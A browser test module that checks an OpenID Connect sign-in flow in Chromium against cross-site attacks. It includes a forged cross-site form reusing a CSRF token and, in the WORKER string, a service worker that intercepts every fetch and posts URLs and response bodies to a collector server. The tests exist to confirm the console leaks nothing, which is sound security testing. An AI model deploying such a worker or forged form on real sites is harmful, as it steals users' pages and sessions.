"""Signing in, in Chromium: cookies, policies and redirects as a browser has them, between two sites."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

pytest.importorskip("authlib", reason="needs the extra oidc")

from secfed.audit.languages import LANGUAGES
from secfed.deploy.admission.approvals_table import ApprovalState
from tests.browser import CHECKS, CHROMIUM, Browser, browser
from tests.ports import free_port
from tests.secfed.console import provider_case
from tests.secfed.console.sign_in_case import STUDY, Case
from tests.secfed.console.test_browser import WIDTHS, entered, keep, served

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="no chromium program on this machine"),
]


@pytest.fixture
def elsewhere() -> Iterator[provider_case.Provider]:
    """A provider at another site than the console: to browsers a name makes a site, and no port does."""
    with provider_case.provider() as made:
        made.issuer = made.issuer.replace("127.0.0.1", "localhost")
        made.asks_person = True
        yield made


@pytest.fixture(scope="module")
def tab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with browser(tmp_path_factory.mktemp("browser")) as opened:
        yield opened


def wait_for(tab: Browser, words: str) -> None:
    """Pages lead on by themselves."""
    until = time.monotonic() + 60
    text = ""
    while words not in text:
        assert time.monotonic() < until, text
        time.sleep(0.02)
        with suppress(RuntimeError):  # between two pages
            text = tab.text


def sign_in(tab: Browser) -> Browser:
    """From a page of the console to the provider in a tab of its own, and back; ends at the first."""
    tab.follow("Sign in")
    assert "goes on by itself" in tab.text
    tab.follow("Go there")
    with tab.beside() as other:
        wait_for(other, "Log in as Weiss")
        assert other.run("window.opener === null && document.referrer === ''")
        other.follow("Log in")
        wait_for(other, "Go back to the tab with the console")
        return other


def test_a_person_signs_in_decides_and_signs_out(
    folder: Path, elsewhere: provider_case.Provider, tab: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    case = Case(folder, elsewhere, port=free_port())
    with served(case.opened.console, monkeypatch) as address:
        tab.size(1000)
        base = entered(tab, address)
        tab.requests.clear()
        tab.follow("Look at tiny")
        other = sign_in(tab)
        wait_for(tab, "You decide as dr.weiss@uk.example")
        assert tab.run("location.href") == base + STUDY
        tab.follow("Approve")
        assert "written into the signed decision log" in tab.text
        assert case.state is ApprovalState.APPROVED
        tab.follow("Decisions")
        assert f"approved by dr.weiss@uk.example (OpenID Connect: {elsewhere.issuer})" in tab.text
        tab.follow("Sign out")
        assert "nobody is signed in" in tab.text
        assert all(one.startswith(base) for one in tab.requests)
        away = {one.split("?")[0] for one in other.requests if not one.endswith("/favicon.ico")}
        assert away <= {f"{elsewhere.issuer}/authorize", f"http://127.0.0.1:{case.sign_in.port}/signed-in"}
        assert not any(base.rpartition("/")[2] in one for one in elsewhere.referrers)


def test_a_page_from_elsewhere_signs_nobody_in(
    folder: Path, elsewhere: provider_case.Provider, tab: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Somebody else's page sends the form of the console, or leads the browser to the end of a sign-in."""
    case = Case(folder, elsewhere, port=free_port())
    with served(case.opened.console, monkeypatch) as address:
        base = entered(tab, address)
        tab.open(base + STUDY)
        csrf = tab.run("document.querySelector('[name=csrf]').value")
        evil = folder / "evil.html"
        evil.write_text(
            f'<form method="post" action="{base}/sign-in"><input name="csrf" value="{csrf}">'
            "<button>Win</button></form>"
        )
        tab.open(evil.as_uri())
        tab.follow("Win")
        assert "does not come from the console" in tab.text or "for the person who started" in tab.text
        # Even with an answer that has landed:
        case.sign_in.begin("/")
        back = elsewhere.leads_to(case.sign_in.go_on().address)
        assert case.sign_in.landed(back.partition("?")[2])
        evil.write_text(f'<a href="{base}/sign-in/wait">Win</a>')
        tab.open(evil.as_uri())
        tab.follow("Win")
        assert "for the person who started" in tab.text
        assert case.sign_in.person is None


WORKER = """self.addEventListener('install', e => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', e => e.respondWith((async () => {
  const r = await fetch(e.request), t = await r.clone().text();
  await fetch('DROP', {method: 'POST', mode: 'no-cors', body: e.request.url + ' ' + t});
  return r; })()));"""
PAGE = """<!doctype html><title>x</title><body>planted<script>
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)
  .then(() => document.body.append(' ready'))</script>"""


def test_a_program_that_another_account_left_at_the_registered_port_reads_nothing_there(
    folder: Path, elsewhere: provider_case.Provider, tab: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Service workers outlive the server that they came from, and every account can serve a free port."""
    case, stolen = Case(folder, elsewhere, port=free_port()), list[str]()

    class Other(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            stolen.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
            self.send_response(204)
            self.end_headers()

        def do_GET(self) -> None:
            is_worker = self.path == "/sw.js"
            drop = f"http://127.0.0.1:{dropped.server_port}/"
            body = (WORKER.replace("DROP", drop) if is_worker else PAGE).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with serving(Other, 0) as dropped:
        with serving(Other, case.sign_in.port):
            tab.open(f"http://127.0.0.1:{case.sign_in.port}/")
            wait_for(tab, "ready")
        with served(case.opened.console, monkeypatch) as address:
            base = entered(tab, address)
            tab.open(base + STUDY)
            csrf = tab.run("document.querySelector('[name=csrf]').value")
            sign_in(tab)
            wait_for(tab, "You decide as dr.weiss@uk.example")
    told = " ".join(stolen)
    assert "/signed-in?" in told  # it is there, and reads what is at that port
    assert not any(one in told for one in (base.rpartition("/")[2], csrf, "tiny"))


@contextmanager
def serving(handler: type[BaseHTTPRequestHandler], port: int) -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("127.0.0.1", port), handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(30)


def test_every_page_is_as_wide_as_the_window_whoever_is_signed_in(
    folder: Path, elsewhere: provider_case.Provider, tab: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    case = Case(folder, elsewhere, port=free_port())
    elsewhere.who["email"] = f"{'long' * 40}@uk.example"
    with served(case.opened.console, monkeypatch) as address:
        base = entered(tab, address)
        for signed_in in (False, True):
            if signed_in:
                tab.open(base + STUDY)
                sign_in(tab)
                wait_for(tab, "longlong")
            else:
                case.sign_in.begin("/")
            for code in LANGUAGES:
                for page in ("/", STUDY) if signed_in else ("/", STUDY, "/sign-in/wait"):
                    tab.open(f"{base}{page}?language={code}")
                    for width in WIDTHS:
                        tab.size(width)
                        assert tab.run(CHECKS) == [], (page, width, code)
                    keep(tab.picture(), f"console-sign-in-{signed_in}-{code}-{page.count('/')}.png")
            tab.open(f"{base}/?language=en")
